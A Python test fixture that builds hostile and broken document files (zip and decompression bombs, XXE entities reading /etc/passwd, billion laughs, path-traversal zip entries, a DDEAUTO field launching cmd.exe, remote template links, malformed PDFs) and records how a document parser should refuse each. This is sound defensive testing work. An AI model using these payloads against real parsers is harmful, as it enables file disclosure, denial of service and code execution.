"""Files that want to hurt whoever opens them, or that are merely broken: each by name, with what may come of it."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from tests.documents import wordxml as x

BODY = x.p("QUY TRÌNH") + x.p("Mã hiệu: QT-01") + x.p("Lần ban hành: 02") + x.p("1. MỤC ĐÍCH")
READ = "read"


@dataclass(frozen=True)
class Hostile:
    """A file's bytes; `fates` are ``read`` or the refusals right for it, `says` problems that must be named."""

    name: str
    data: bytes
    fates: frozenset[str]
    says: frozenset[str] = frozenset()


def files() -> Iterator[Hostile]:
    """Every hostile file, made anew."""
    for maker in (_bombs, _entities, _names, _dangling, _cut, _wrong_types, _stowaways, _office, _nested, _pdfs):
        yield from maker()


def _one(name: str, data: bytes, *fates: str, says: tuple[str, ...] = ()) -> Hostile:
    return Hostile(name, data, frozenset(fates), frozenset(says))


def _with(**parts: bytes) -> bytes:
    found = x.parts(BODY)
    for name, data in parts.items():
        found[name.replace("__", "/").replace("_dot_", ".")] = data
    return x.zipped(found)


def _changed(name: str, change: Callable[[bytes], bytes]) -> bytes:
    found = x.parts(BODY)
    found[name] = change(found[name])
    return x.zipped(found)


def _document(xml: bytes) -> bytes:
    return _changed("word/document.xml", lambda _: xml)


def _bombs() -> Iterator[Hostile]:
    yield _one("a part of 400 MB of zeros", _with(word__media__x_dot_png=b"\0" * 400_000_000), "too-large")
    many = x.part("document", "<w:p/>" * 9_000_000)
    yield _one("nine million paragraphs", _document(many), "too-large")
    run = x.part("document", x.p("chữ " * 400_000))
    yield _one("one paragraph of 1.6 million letters", _document(run), READ)
    long = x.part("document", "<w:p><w:r><w:t>" + "a" * 30_000_000 + "</w:t></w:r></w:p>")
    yield _one("one text of 30 million letters", _document(long), READ, "damaged", "too-large")
    attributes = b" ".join(b'w:a%d="1"' % number for number in range(300_000))
    xml = x.part("document", "<w:p/>").replace(b"<w:p/>", b"<w:p " + attributes + b"/>")
    yield _one("an element of 300,000 attributes", _document(xml), READ, "damaged", "too-large")
    deep = "<w:sdt><w:sdtContent>" * 5_000 + x.p("đáy") + "</w:sdtContent></w:sdt>" * 5_000
    yield _one("content controls 5,000 deep", _document(x.part("document", deep)), "damaged")
    under = "<w:sdt><w:sdtContent>" * 110 + x.p("đáy") + "</w:sdtContent></w:sdt>" * 110
    yield _one("content controls 110 deep", _document(x.part("document", under)), READ)
    yield _one("3,000 parts", x.zipped({**x.parts(BODY), **{f"word/x{n}.xml": b"" for n in range(3_000)}}), "too-large")
    links = "".join(f'<Relationship Id="q{n}" Type="t/image" Target="media/{n}.png"/>' for n in range(50_000))
    yield _one(
        "50,000 relationships", _with(word___rels__document_dot_xml_dot_rels=x.relationships(links)), "too-large"
    )
    inner = x.zipped({f"{n}": b"\0" * 1_000_000 for n in range(50)})
    yield _one("a zip bomb inside", _with(word__embeddings__bomb_dot_zip=inner), READ, says=("embedded",))
    yield _one("a directory that lies about sizes", _lying(), "damaged", "too-large", READ)
    yield _one("overlapping parts", _overlapping(), "damaged", "too-large", READ)
    wide = "<w:tr>" + "<w:tc><w:tcPr><w:gridSpan w:val='2000000000'/></w:tcPr><w:p/></w:tc>" * 50 + "</w:tr>"
    yield _one("cells two billion columns wide", _document(x.part("document", f"<w:tbl>{wide * 50}</w:tbl>")), READ)
    merged = "<w:tr>" + "<w:tc><w:tcPr><w:vMerge/></w:tcPr><w:p/></w:tc>" * 60 + "</w:tr>"
    yield _one("200,000 cells merged down", _document(x.part("document", f"<w:tbl>{merged * 3_500}</w:tbl>")), READ)
    heads = x.table([["TT", "Trình tự", "Trách nhiệm", "Thời gian"]] * 20_000)
    yield _one("20,000 heads of step tables", _document(x.part("document", heads)), READ)
    labels = x.p("Mã hiệu Lần ban hành Ngày ban hành " * 20_000)
    yield _one("60,000 labels in a line", _document(x.part("document", labels)), READ)
    dots = x.p("Mã hiệu" + " " * 200_000 + "." * 200_000 + "/" * 50_000)
    yield _one("a label before 200,000 blanks and dots", _document(x.part("document", dots)), READ)
    digits = x.p("Ngày ban hành: " + "1" * 300_000) + x.p("một hai ba bốn " * 30_000 + "ngày")
    yield _one("numbers without end", _document(x.part("document", digits)), READ)
    times = x.table([["TT", "Trình tự", "Trách nhiệm", "Thời gian"], ["1", "a", "b", "1 giờ " * 20_000 + "0/0 ngày"]])
    yield _one("a limit of 20,000 hours one by one", _document(x.part("document", times)), READ)
    codes = x.p("BM-" * 100_000) + x.p("Mẫu số " * 50_000) + x.p("1/QĐ-" * 80_000) + x.p("A-" * 100_000)
    yield _one("codes without end", _document(x.part("document", codes)), READ)


def _lying() -> bytes:
    """A part of 100 MB that the directory calls 10 bytes long."""
    data = bytearray(_with(word__media__x_dot_xml=b" " * 100_000_000))
    place = data.rfind(b"word/media/x.xml") - 46 + 24
    data[place : place + 4] = struct.pack("<I", 10)
    return bytes(data)


def _overlapping() -> bytes:
    """Many directory entries that share one compressed stream."""
    packed = zlib.compressobj(9, zlib.DEFLATED, -15)
    stream = packed.compress(b"\0" * 900_000) + packed.flush()
    crc = zlib.crc32(b"\0" * 900_000)
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, crc, len(stream), 900_000, 1, 0) + b"a" + stream
    entry = struct.pack(
        "<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0, crc, len(stream), 900_000, 1, 0, 0, 0, 0, 0, 0
    )
    directory = (entry + b"a") * 1_500
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1_500, 1_500, len(directory), len(local), 0)
    return local + directory + end


def _entities() -> Iterator[Hostile]:
    def doctype(declared: str, used: str) -> bytes:
        xml = x.part("document", x.p(f"&{used};").replace("&amp;", "&")).decode()
        return _document(xml.replace("<w:document", f"<!DOCTYPE x [{declared}]><w:document", 1).encode())

    yield _one("an entity that reads /etc/passwd", doctype('<!ENTITY e SYSTEM "file:///etc/passwd">', "e"), "entities")
    yield _one("an entity on the network", doctype('<!ENTITY e SYSTEM "http://192.0.2.1/x">', "e"), "entities")
    laughs = '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    yield _one("a billion laughs", doctype(laughs, "a9"), "entities")
    outside = (
        x.part("document", x.p("a"))
        .decode()
        .replace("<w:document", '<!DOCTYPE x SYSTEM "http://192.0.2.1/x.dtd"><w:document', 1)
    )
    yield _one("a document type on the network", _document(outside.encode()), "entities")
    wide = outside.split("?>", 1)[1].encode("utf-16")
    yield _one("a document type in UTF-16", _document(wide), "entities", "damaged")
    include = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
    yield _one("an XInclude of /etc/passwd", _document(x.part("document", BODY + include)), READ)
    types = b'<!DOCTYPE x [<!ENTITY e "x">]><Types/>'
    yield _one("entities in the content types", _changed("[Content_Types].xml", lambda _: types), "entities")
    custom = b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><w:ftr>&e;</w:ftr>'
    found = x.parts(BODY, {"footer1": x.p("chân trang")})
    found["word/footer1.xml"] = custom
    yield _one("entities in a footer", x.zipped(found), READ, says=("unread-part",))


def _names() -> Iterator[Hostile]:
    yield _one("a part that climbs out", x.zipped({**x.parts(BODY), "../../etc/cron.d/x": b"x"}), "damaged")
    yield _one("a part with an absolute name", x.zipped({**x.parts(BODY), "/etc/x": b"x"}), "damaged")
    yield _one(
        "parts named with backslashes", x.zipped({n.replace("/", "\\"): d for n, d in x.parts(BODY).items()}), READ
    )
    yield _one(
        "parts named in capitals", x.zipped({n.replace("word/", "WORD/"): d for n, d in x.parts(BODY).items()}), READ
    )
    twice = io.BytesIO(x.docx(BODY))
    with zipfile.ZipFile(twice, "a") as archive:
        archive.writestr("word/document.xml ", x.part("document", x.p("khác")))
    yield _one("a second body under almost the same name", twice.getvalue(), READ)
    yield _one("a zip with a comment of 60 kB", _commented(), READ, "damaged")
    yield _one("a program in front of the zip", b"MZ" + b"\0" * 5_000 + x.docx(BODY), "not-a-document", READ)
    yield _one("parts that are not compressed", x.zipped(x.parts(BODY), zipfile.ZIP_STORED), READ)
    yield _one("parts compressed with LZMA", x.zipped(x.parts(BODY), zipfile.ZIP_LZMA), READ, "damaged")


def _commented() -> bytes:
    output = io.BytesIO(x.docx(BODY))
    with zipfile.ZipFile(output, "a") as archive:
        archive.comment = b"PK\x05\x06" * 15_000
    return output.getvalue()


def _dangling() -> Iterator[Hostile]:
    for missing in ("word/document.xml", "_rels/.rels", "[Content_Types].xml", "word/_rels/document.xml.rels"):
        found = x.parts(BODY, {"header1": x.p("Mã hiệu: QT-01")})
        del found[missing]
        fates = ("not-word", "not-a-document") if missing == "word/document.xml" else (READ, "not-a-document")
        yield _one(f"without {missing}", x.zipped(found), *fates)
    found = x.parts(BODY, {"header1": x.p("Mã hiệu: QT-01"), "footnotes": x.p("chú thích")})
    del found["word/header1.xml"], found["word/footnotes.xml"]
    yield _one("without the header it names", x.zipped(found), READ, says=("missing-part",))
    found = x.parts(BODY, {"header1": "", "styles": "", "numbering": ""})
    found["word/header1.xml"] = found["word/styles.xml"] = found["word/numbering.xml"] = b"<w:hdr"
    yield _one("header, styles and numbering cut short", x.zipped(found), READ, says=("unread-part",))
    circle = "".join(
        f'<w:style w:type="paragraph" w:styleId="{a}"><w:basedOn w:val="{b}"/></w:style>' for a, b in ("ab", "ba", "cc")
    )
    yield _one("styles that rest on each other", x.docx(x.p("a", style="a") + BODY, {"styles": circle}), READ)
    odd = '<w:num w:numId="1"><w:abstractNumId w:val="99"/></w:num><w:num/><w:abstractNum/>'
    listed = (
        x.p("a", numbered=0)
        + x.p("b", numbered=8)
        + '<w:p><w:pPr><w:numPr><w:ilvl w:val="77"/><w:numId w:val="1"/></w:numPr></w:pPr></w:p>'
    )
    yield _one("lists that do not exist", x.docx(listed + BODY, {"numbering": odd}), READ)


def _cut() -> Iterator[Hostile]:
    whole = x.docx(BODY)
    for share in (0.02, 0.3, 0.6, 0.9, 0.99):
        yield _one(f"cut at {share:.0%}", whole[: int(len(whole) * share)], "damaged", "not-a-document", "not-word")
    broken = bytearray(whole)
    for place in range(60, len(broken) - 400, 97):
        broken[place] ^= 0x5A
    yield _one("bytes changed throughout", bytes(broken), "damaged", "not-word", "encrypted", "not-a-document")
    yield _one("XML cut short", _changed("word/document.xml", lambda d: d[: len(d) // 2]), "damaged")
    yield _one("an empty body part", _document(b""), "damaged")
    yield _one("a body of another kind", _document(b"<html><p>x</p></html>"), READ)
    yield _one(
        "control characters in XML",
        _changed("word/document.xml", lambda d: d.replace(b"QT-01", b"QT\x00-01")),
        "damaged",
    )
    yield _one(
        "bytes that are no UTF-8",
        _changed("word/document.xml", lambda d: d.replace(b"QT-01", b"\xff\xfe\xfd")),
        "damaged",
    )


def _wrong_types() -> Iterator[Hostile]:
    yield _one("nothing at all", b"", "empty-file")
    yield _one("only zeros", b"\0" * 10_000, "empty-file")
    yield _one("plain words", "Mã hiệu: QT-01".encode(), "not-a-document")
    yield _one("a web page called .docx", b"<html><body>QT-01</body></html>", "not-a-document")
    yield _one("a picture", b"\x89PNG\r\n\x1a\n" + b"\0" * 100, "not-a-document")
    yield _one("a program", b"\x7fELF" + b"\0" * 100, "not-a-document")
    yield _one("an empty zip", b"PK\x05\x06" + b"\0" * 18, "not-word", "damaged")
    yield _one("a zip of something else", x.zipped({"a.txt": b"xin chao"}), "not-word")
    sheet = {"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>"}
    yield _one("a spreadsheet", x.zipped(sheet), "not-a-document", "not-word")
    yield _one(
        "random bytes", bytes((n * 7919 + n // 251) % 256 for n in range(50_000)), "not-a-document", "empty-file"
    )


def _stowaways() -> Iterator[Hostile]:
    macro = x.parts(BODY)
    macro["[Content_Types].xml"] = macro["[Content_Types].xml"].replace(
        b"vnd.openxmlformats-officedocument.wordprocessingml.document.main", b"vnd.ms-word.document.macroEnabled.main"
    )
    macro["word/vbaProject.bin"] = b"x"
    yield _one("a macro", x.zipped(macro), READ, says=("macros",))
    template = (
        f'<Relationship Id="r9" TargetMode="External" Target="http://192.0.2.1/t.dotm" Type="{x.R}/attachedTemplate"/>'
    )
    yield _one(
        "a template on the network",
        _with(word___rels__document_dot_xml_dot_rels=x.relationships(template)),
        READ,
        says=("external-link",),
    )
    field = '<w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r>'
    yield _one("a field that starts a program", x.docx(x.p(inner=field) + BODY), READ, says=("active-field",))
    yield _one("a chunk of HTML", x.docx('<w:altChunk r:id="r5"/>' + BODY), READ, says=("alt-chunk",))
    yield _one("a signed file", _with(_xmlsignatures__sig1_dot_xml=b"<Signature/>"), READ, says=("signed",))
    changed = x.p(inner=x.run("trong ") + x.deleted("03") + x.inserted("02") + x.run(" ngày"))
    yield _one("open tracked changes", x.docx(changed + BODY), READ, says=("tracked-changes",))
    hidden = x.p(inner=x.run("ẩn", "<w:vanish/>"))
    yield _one("hidden words", x.docx(hidden + BODY), READ, says=("hidden-text",))
    noted = x.docx(BODY, {"comments": f'<w:comment w:id="1">{x.p("xem lại")}</w:comment>'})
    yield _one("comments", noted, READ, says=("comments",))


def _office() -> Iterator[Hostile]:
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504
    yield _one("a .docx under a password", ole + "EncryptedPackage".encode("utf-16-le") + b"\0" * 200, "encrypted")
    locked = b"\xec\xa5\xc1\0" + b"\0" * 6 + struct.pack("<H", 0x100) + b"\0" * 100
    yield _one("a .doc under a password", ole + locked + "WordDocument".encode("utf-16-le"), "encrypted")
    yield _one("an old spreadsheet", ole + "Workbook".encode("utf-16-le"), "not-a-document")
    broken = ole + "WordDocument".encode("utf-16-le") + b"\0" * 3_000
    yield _one("a .doc with nothing in it", broken, READ, "not-converted", "needs-libreoffice", "timeout", "damaged")
    yield _one("a .rtf with unbalanced braces", rb"{\rtf1 {{{{{ QT-01", READ, "not-converted", "needs-libreoffice")
    locked_zip = bytearray(x.docx(BODY))
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = 0
        while (start := locked_zip.find(mark, start)) >= 0:
            locked_zip[start + place] |= 1
            start += 4
    yield _one("a zip under a password", bytes(locked_zip), "encrypted")


def _nested() -> Iterator[Hostile]:
    table = x.p("lõi")
    for _ in range(40):
        table = x.table([[x.cell(raw=table)]])
    yield _one("tables 40 deep", _document(x.part("document", table)), READ)
    box = x.p("lõi")
    for _ in range(6):
        box = x.text_box(box)
    yield _one("text boxes in text boxes", _document(x.part("document", box)), READ)
    bare = "<w:tbl><w:tr/></w:tbl><w:tbl/><w:tc/><w:p><w:pPr><w:pStyle/></w:pPr>"
    bare += '<w:r><w:sym/><w:sym w:char="zz"/></w:r></w:p>'
    yield _one("elements without their attributes", _document(x.part("document", bare + BODY)), READ)
    strict = b"http://purl.oclc.org/ooxml/wordprocessingml/main"
    found = {name: data.replace(x.W.encode(), strict) for name, data in x.parts(BODY).items()}
    yield _one("Strict OOXML", x.zipped(found), READ)


def _pdfs() -> Iterator[Hostile]:
    yield _one("a PDF of its head alone", b"%PDF-1.7\n", "damaged")
    yield _one("a PDF of noise", b"%PDF-1.4\n" + bytes((n * 31) % 256 for n in range(20_000)), "damaged")
    loop = b"1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Count 9/Kids[2 0 R 2 0 R]>>endobj "
    yield _one("a PDF whose pages hold themselves", b"%PDF-1.4\n" + loop + b"trailer<</Root 1 0 R>>", READ, "damaged")
    deep = b"1 0 obj " + b"[" * 200_000 + b"]" * 200_000 + b" endobj trailer<</Root 1 0 R>>"
    yield _one("a PDF of 200,000 brackets", b"%PDF-1.4\n" + deep, READ, "damaged")
    bomb = zlib.compress(zlib.compress(b"q " * 60_000_000, 9), 9)
    pages = (
        b"1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Count 1/Kids[3 0 R]>>endobj "
        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/Contents 4 0 R>>endobj "
        b"4 0 obj<</Length %d/Filter[/FlateDecode/FlateDecode]>>stream\n" % len(bomb)
    )
    yield _one(
        "a PDF stream of 120 MB packed twice",
        b"%PDF-1.4\n" + pages + bomb + b"\nendstream endobj trailer<</Root 1 0 R>>",
        READ,
        "damaged",
    )
    million = (
        b"1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Count 1000000/Kids[" + b"3 0 R " * 200_000
    )
    million += b"]>>endobj 3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj trailer<</Root 1 0 R>>"
    yield _one("a PDF of a million pages", b"%PDF-1.4\n" + million, READ, "damaged")
